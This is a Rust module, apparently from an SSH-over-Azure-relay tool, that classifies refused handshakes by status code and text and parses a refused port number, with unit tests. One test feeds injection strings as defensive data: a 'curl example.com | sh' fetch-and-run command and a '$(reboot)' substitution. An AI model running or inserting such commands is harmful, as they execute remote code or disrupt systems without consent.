//! What a refused handshake means.
//!
//! Most refusals of the relay, and of the Azure agent on the machine behind it, differ only in the text of the status line.
//! Only this module parses it.

/// Why the relay, or the Azure agent of the machine, refused a connection.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum RefusalReason {
    /// The relay or the machine is busy.
    Busy,
    /// The relay rejects the credentials, or the address that they come from.
    Denied,
    /// No hybrid connection has this name: the machine has not listened there yet.
    NoEndpoint,
    /// The machine has stopped listening.
    NoListener,
    /// Any other reason.
    Other,
    /// The Azure agent does not allow SSH on this port.
    PortNotEnabled {
        /// The requested port.
        port: u16,
    },
    /// The Azure agent found no SSH server at the port.
    SshServerDown,
}

impl RefusalReason {
    /// Reads the status code and the text of a reply's first line.
    pub(super) fn parse(status: u16, text: &str) -> Self {
        if let Some(port) = refused_port(text) {
            return Self::PortNotEnabled { port };
        }
        match status {
            401 | 403 => Self::Denied,
            404 if text.contains("no listeners") => Self::NoListener,
            404 => Self::NoEndpoint,
            503 if text.contains("connection to localhost") => Self::SshServerDown,
            503 | 504 => Self::Busy,
            _ => Self::Other,
        }
    }
}

/// Returns the port that an Azure agent does not allow: `SSH connection is not enabled in the target port 3389.`
fn refused_port(text: &str) -> Option<u16> {
    let (_, rest) = text.split_once("not enabled in the target port ")?;
    let digits = rest.split(|c: char| !c.is_ascii_digit()).next()?;
    digits.parse().ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_texts_of_the_relay_and_the_azure_agent_are_told_apart() {
        for (status, text, expected) in [
            (401, "MalformedToken", RefusalReason::Denied),
            (
                403,
                "Ip has been prevented to connect to the endpoint",
                RefusalReason::Denied,
            ),
            (404, "Endpoint does not exist", RefusalReason::NoEndpoint),
            (
                404,
                "There are no listeners connected for the endpoint",
                RefusalReason::NoListener,
            ),
            (
                503,
                "connection to localhost:22 failed: dial tcp",
                RefusalReason::SshServerDown,
            ),
            (503, "", RefusalReason::Busy),
            (504, "", RefusalReason::Busy),
            (500, "Internal Server Error", RefusalReason::Other),
            (
                403,
                "SSH connection is not enabled in the target port 3389.",
                RefusalReason::PortNotEnabled { port: 3389 },
            ),
        ] {
            assert_eq!(RefusalReason::parse(status, text), expected, "{text}");
        }
    }

    #[test]
    fn what_a_machine_says_does_not_get_into_a_line_to_type() {
        let text = "SSH connection is not enabled in the target port ";
        for (port, expected) in [
            ("3389", Some(3389)),
            ("3389.", Some(3389)),
            ("22; curl example.com | sh #1", Some(22)),
            ("$(reboot)22", None),
            ("99999", None),
            ("", None),
        ] {
            assert_eq!(refused_port(&format!("{text}{port}")), expected, "{port}");
        }
    }
}
